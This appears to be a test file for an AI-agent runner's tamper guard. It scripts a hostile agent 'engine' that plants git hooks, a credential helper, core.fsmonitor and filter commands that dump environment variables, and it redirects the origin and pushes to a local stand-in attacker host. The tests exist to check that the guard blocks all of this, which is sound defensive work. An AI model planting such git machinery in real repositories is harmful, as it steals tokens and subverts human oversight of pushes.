/** The engine is hostile: git machinery it plants in the repository never runs and never redirects a push. */
import { afterEach, describe, expect, test } from 'bun:test'
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import { probeBwrap } from '../lib/engines/isolate.ts'
import { readState } from '../lib/state.ts'
import {
  assertUntampered,
  configEntries,
  describeChanges,
  diffSnapshots,
  followWorktreeLink,
  guardRepository,
  readFingerprint,
  recordFingerprint,
  snapshot,
} from '../lib/tamper.ts'
import { type Fixture, fixture, gitSync, makeOrigin, tempDir } from './helpers.ts'

let fx: Fixture | undefined
const dirs: string[] = []
let server: Server | undefined
afterEach(async () => {
  await fx?.cleanup()
  fx = undefined
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true })
  server?.close()
  server = undefined
})

const quiet = { info() {}, warn() {} }

/** A clone with a worktree, fingerprinted as the factory does after cloning. */
function cloneWithWorktree() {
  const dir = tempDir()
  dirs.push(dir)
  const home = join(dir, 'home')
  const base = join(dir, 'base')
  gitSync(['clone', '-q', makeOrigin(dir), base])
  recordFingerprint(home, join(base, '.git'))
  const wt = join(dir, 'wt')
  gitSync(['worktree', 'add', '-q', '--no-track', '-b', 'feat', wt, 'origin/main'], base)
  return { dir, home, base, gitDir: join(base, '.git'), wt }
}

describe('the repository fingerprint', () => {
  test('a changed config, hook or info/ file is named with the keys that changed, and repaired byte for byte', () => {
    const { home, base, gitDir, wt } = cloneWithWorktree()
    const before = snapshot(gitDir)
    expect(diffSnapshots(before, snapshot(gitDir))).toEqual([])
    gitSync(['config', 'filter.x.clean', 'evil'], base)
    gitSync(['config', 'url.http://attacker/.pushInsteadOf', '/srv/origin'], base)
    gitSync(['remote', 'set-url', 'origin', 'http://attacker/x.git'], base)
    writeFileSync(join(gitDir, 'hooks', 'pre-push'), '#!/bin/sh\nevil\n', { mode: 0o755 })
    writeFileSync(join(gitDir, 'info', 'attributes'), '* filter=x\n')
    expect(() => assertUntampered(home, wt, { identifier: 'ENG-1' })).toThrow(/worktree_tampered|git machinery changed/)
    const err = (() => {
      try {
        assertUntampered(home, wt, { identifier: 'ENG-1' })
      } catch (e) {
        return e as { code: string; message: string }
      }
    })()!
    expect(err.code).toBe('worktree_tampered')
    expect(err.message).toContain('config (+filter.x.clean, +url.http://attacker/.pushinsteadof, ~remote.origin.url)')
    expect(err.message).toContain('hooks/pre-push added')
    expect(err.message).toContain('info/attributes added')
    expect(err.message).not.toContain(base)

    const fixed = guardRepository({ home, log: quiet }, gitDir, 'ENG-2')
    expect(describeChanges(fixed)).toContain('hooks/pre-push added')
    expect(snapshot(gitDir)).toEqual(before)
    expect(readFingerprint(home, gitDir)!.repairs).toMatchObject([{ by: 'ENG-2' }])
    // ENG-1's engine ran while ENG-2 repaired: ENG-1 is still told.
    expect(() => assertUntampered(home, wt, { identifier: 'ENG-1', since: new Date(0).toISOString() })).toThrow(
      /found and restored by ENG-2/,
    )
    expect(() => assertUntampered(home, wt, { identifier: 'ENG-1', since: new Date(Date.now() + 60_000).toISOString() })).not.toThrow()
  })

  test('a worktree whose .git link was redirected, or whose git dir gained a config.worktree, is reported without running git', () => {
    const { home, gitDir, wt, dir } = cloneWithWorktree()
    expect(followWorktreeLink(wt)).toMatchObject({ commonDir: expect.stringContaining('base/.git') })
    const link = readFileSync(join(wt, '.git'), 'utf8')
    const admin = link.replace('gitdir: ', '').trim()
    writeFileSync(join(admin, 'config.worktree'), '[core]\n\thooksPath = /tmp/x\n')
    expect(() => assertUntampered(home, wt, { identifier: 'ENG-1' })).toThrow(/config.worktree added/)
    rmSync(join(admin, 'config.worktree'))
    // The engine's own git dir inside the worktree, with its own config.
    const fake = join(dir, 'fake-git')
    mkdirSync(join(fake, 'worktrees', 'wt'), { recursive: true })
    writeFileSync(join(wt, '.git'), `gitdir: ${join(fake, 'worktrees', 'wt')}\n`)
    expect(() => assertUntampered(home, wt, { identifier: 'ENG-1' })).toThrow(/\.git \(commondir changed\)/)
    writeFileSync(join(wt, '.git'), link)
    expect(() => assertUntampered(home, wt, { identifier: 'ENG-1' })).not.toThrow()
    expect(snapshot(gitDir)).toEqual(readFingerprint(home, gitDir)!.files)
  })

  test('config keys are read with their sections and subsections, names lower-cased and subsections kept', () => {
    const entries = configEntries('[core]\n\tFSMonitor = x\n[filter "Evil"]\n\tclean = y ; c\n[include]\npath=/a\n# note\n')
    expect([...entries.keys()]).toEqual(['core.fsmonitor', 'filter.Evil.clean', 'include.path'])
  })
})

/** An http listener standing in for the attacker's host: it records every request. */
async function attackerListener(): Promise<{ url: string; requests: string[] }> {
  const requests: string[] = []
  server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`)
    res.writeHead(401, { 'WWW-Authenticate': 'Basic realm="x"' })
    res.end()
  })
  await new Promise<void>((r) => server!.listen(0, '127.0.0.1', r))
  const port = (server.address() as { port: number }).port
  return { url: `http://127.0.0.1:${port}`, requests }
}

const RESULT =
  '{"type":"result","subtype":"success","is_error":false,"result":"done","session_id":"s-1","total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":2}}'
const TOKEN = 'ghs_hostileTestToken0123456789'

describe('a hostile engine', () => {
  // isolation: none, as on a host without bwrap: the engine can write the repository's config and
  // hooks, and the tamper check is what stands between them and the factory's git.
  test('(isolation: none) plants fsmonitor, hooks, a filter, pushInsteadOf, a credential helper, hooksPath and a new origin: nothing runs, nothing is sent, nothing is pushed, the run fails with worktree_tampered, the next issue runs clean', async () => {
    const attacker = await attackerListener()
    fx = await fixture({
      issues: [
        { team: 'ENG', title: 'First', description: 'd', assignee: 'agent@rose.test' },
        { team: 'ENG', title: 'Second', description: 'd' },
      ],
      agentYaml: (o) =>
        `poll_interval_seconds: 1\nagents:\n  - name: tester\n    engine: claude\n    tracker: { mode: api_key, token_env: ROSE_TEST_LINEAR_KEY }\n    repo: { url: ${o}, base: main }\n    isolation: none\n    limits: { max_attempts: 3 }\n    claude: { bin: ${join(o, '..', 'engine.sh')} }\n`,
      env: { FACTORY_GITHUB_TOKEN: TOKEN },
    })
    const pwned = join(fx.dir, 'pwned')
    mkdirSync(join(pwned, 'hooks'), { recursive: true })
    const hostile = join(fx.dir, 'hostile')
    writeFileSync(hostile, '')
    const dump = (what: string) => `sh -c 'env > ${pwned}/${what}.env; cat'`
    const hook = (what: string) => `#!/bin/sh\\nenv > ${pwned}/${what}.env\\n`
    writeFileSync(
      join(fx.dir, 'engine.sh'),
      [
        '#!/bin/sh',
        `echo '{"type":"system","subtype":"init","session_id":"s-1"}'`,
        'echo hello > hello.txt',
        `if [ -e '${hostile}' ]; then`,
        '  common=$(git rev-parse --git-common-dir)',
        `  printf '${hook('pre-push')}' > "$common/hooks/pre-push"`,
        `  printf '${hook('post-checkout')}' > "$common/hooks/post-checkout"`,
        `  printf '${hook('hookspath-pre-commit')}' > '${pwned}/hooks/pre-commit'`,
        `  chmod +x "$common/hooks/pre-push" "$common/hooks/post-checkout" '${pwned}/hooks/pre-commit'`,
        `  git remote set-url origin ${attacker.url}/repo.git`,
        `  git config url.${attacker.url}/.pushInsteadOf '${fx.origin}'`,
        `  git config filter.x.clean "${dump('filter')}"`,
        `  echo '* filter=x' > .gitattributes`,
        `  git config credential.helper "!${dump('credential')}"`,
        `  git config core.hooksPath '${pwned}/hooks'`,
        `  git config core.fsmonitor "${dump('fsmonitor')}"`,
        'fi',
        `echo '${RESULT}'`,
      ].join('\n') + '\n',
    )
    chmodSync(join(fx.dir, 'engine.sh'), 0o755)

    const first = await fx.script('start', ['--once', '--config', fx.configPath])
    expect(first.code).toBe(1)
    const recs = () => Object.values(readState(join(fx!.home, 'state.json')).agents.tester!.issues)
    const one = recs().find((r) => r.identifier === 'ENG-1')!
    expect(one.phase).toBe('failed')
    expect(one.attempts).toBe(1)
    expect(one.lastError?.code).toBe('worktree_tampered')
    // Nothing planted ran, nothing reached the attacker, nothing was pushed.
    expect(readdirSync(pwned)).toEqual(['hooks'])
    expect(attacker.requests).toEqual([])
    expect(fx.originBranches()).toEqual(['main'])
    // The failure comment says what changed, and holds no local path and no token.
    const comments = fx.issue('ENG-1').comments.map((c) => c.body)
    const failure = comments.find((b) => b.includes('worktree_tampered'))!
    expect(failure).toBeDefined()
    for (const named of [
      '+core.fsmonitor',
      '+core.hookspath',
      '+credential.helper',
      '+filter.x.clean',
      `+url.${attacker.url}/.pushinsteadof`,
      '~remote.origin.url',
      'hooks/pre-push added',
      'hooks/post-checkout added',
      'Nothing was committed or pushed',
    ])
      expect(failure).toContain(named)
    expect(failure).not.toContain(fx.dir)
    expect(failure).not.toMatch(/\/tmp\/|\/home\//)
    expect(comments.join('\n')).not.toContain(TOKEN)
    expect(first.stderr).not.toContain(TOKEN)
    // The base clone is back to what the factory wrote.
    const baseConfig = readFileSync(join(fx.home, 'repos', readdirSync(join(fx.home, 'repos'))[0]!, '.git', 'config'), 'utf8')
    expect(baseConfig).not.toMatch(/fsmonitor|filter|pushInsteadOf|hooksPath|helper|127\.0\.0\.1/)

    // The next issue on the same base clone, with an engine that behaves: In Review, pushed to the origin.
    rmSync(hostile)
    fx.sandbox.store.updateIssue('ENG-2', { assigneeId: fx.sandbox.store.userByEmail('agent@rose.test')!.id })
    const second = await fx.script('start', ['--once', '--config', fx.configPath])
    expect(second.code, second.stderr).toBe(0)
    expect(fx.issue('ENG-2').state).toBe('In Review')
    expect(fx.originBranches().length).toBe(2)
    expect(readdirSync(pwned)).toEqual(['hooks'])
    expect(attacker.requests).toEqual([])
  }, 90_000)

  const bwrap = probeBwrap()
  test.skipIf(!bwrap.version)(
    `(isolation: namespace) cannot write the repository's config, and a worktree .git link pointed at a git dir of its own is worktree_tampered${bwrap.version ? '' : ` (skipped: ${bwrap.problem}; apt-get install bubblewrap)`}`,
    async () => {
      fx = await fixture({
        issues: [{ team: 'ENG', title: 'First', description: 'd', assignee: 'agent@rose.test' }],
        agentYaml: (o) =>
          `poll_interval_seconds: 1\nagents:\n  - name: tester\n    engine: claude\n    tracker: { mode: api_key, token_env: ROSE_TEST_LINEAR_KEY }\n    repo: { url: ${o}, base: main }\n    isolation: namespace\n    claude: { bin: ${join(o, '..', 'engine.sh')} }\n`,
      })
      const ran = join(fx.dir, 'planted-ran')
      writeFileSync(
        join(fx.dir, 'engine.sh'),
        [
          '#!/bin/sh',
          `echo '{"type":"system","subtype":"init","session_id":"s-1"}'`,
          'echo hello > hello.txt',
          `git config core.fsmonitor "touch ${ran}" 2>/dev/null && echo CONFIG-WRITTEN > config-written`,
          'git init -q --bare .evil',
          `git --git-dir=.evil config core.fsmonitor "sh -c 'touch ${ran}'"`,
          `printf 'gitdir: %s\\n' "$PWD/.evil" > .git`,
          `echo '${RESULT}'`,
        ].join('\n') + '\n',
      )
      chmodSync(join(fx.dir, 'engine.sh'), 0o755)
      const res = await fx.script('start', ['--once', '--config', fx.configPath])
      expect(res.code).toBe(1)
      const rec = Object.values(readState(join(fx.home, 'state.json')).agents.tester!.issues)[0]!
      expect(rec.lastError?.code).toBe('worktree_tampered')
      expect(rec.lastError?.message).toContain('.git (points outside a worktrees/ directory)')
      expect(existsSync(join(rec.worktree!, 'config-written'))).toBe(false)
      expect(existsSync(ran)).toBe(false)
      expect(fx.originBranches()).toEqual(['main'])
    },
    60_000,
  )

  test('a base clone changed behind the factory (a previous version, a crashed run) is restored by the next worktree step before any git command, and that is logged', async () => {
    fx = await fixture({ issues: [{ team: 'ENG', title: 'First', description: 'd', assignee: 'agent@rose.test' }] })
    // A first run clones and records the fingerprint.
    expect((await fx.script('worktree', ['--config', fx.configPath, '--agent', 'tester', '--issue', 'ENG-1'])).code).toBe(0)
    const base = join(fx.home, 'repos', readdirSync(join(fx.home, 'repos'))[0]!)
    const ran = join(fx.dir, 'ran')
    gitSync(['config', 'filter.x.smudge', `sh -c 'echo smudge >> ${ran}; cat'`], base)
    gitSync(['config', 'filter.x.clean', `sh -c 'echo clean >> ${ran}; cat'`], base)
    writeFileSync(join(base, '.git', 'info', 'attributes'), '* filter=x\n')
    const res = await fx.script('start', ['--once', '--config', fx.configPath])
    expect(res.code, res.stderr).toBe(0)
    expect(res.stderr).toMatch(
      /changed since the factory last wrote it \(config \(\+filter\.x\.clean, \+filter\.x\.smudge\); info\/attributes added\): restored before any git command/,
    )
    expect(existsSync(ran)).toBe(false)
    expect(fx.issue('ENG-1').state).toBe('In Review')
    expect(readFileSync(join(base, '.git', 'config'), 'utf8')).not.toContain('filter')
  }, 60_000)
})

describe('describeChanges', () => {
  test('names at most 20 files and 20 keys a file, and says how many more (an engine may plant thousands)', () => {
    const keys = Array.from({ length: 500 }, (_, i) => `+filter.f${i}.clean`)
    const files = Array.from({ length: 30 }, (_, i) => ({ file: `hooks/h${i}`, kind: 'added' as const }))
    const text = describeChanges([{ file: 'config', kind: 'changed', keys }, ...files])
    expect(text).toContain('config (+filter.f0.clean,')
    expect(text).toContain('480 more keys)')
    expect(text).toContain('11 more files')
    expect(text.length).toBeLessThan(1500)
  })
})
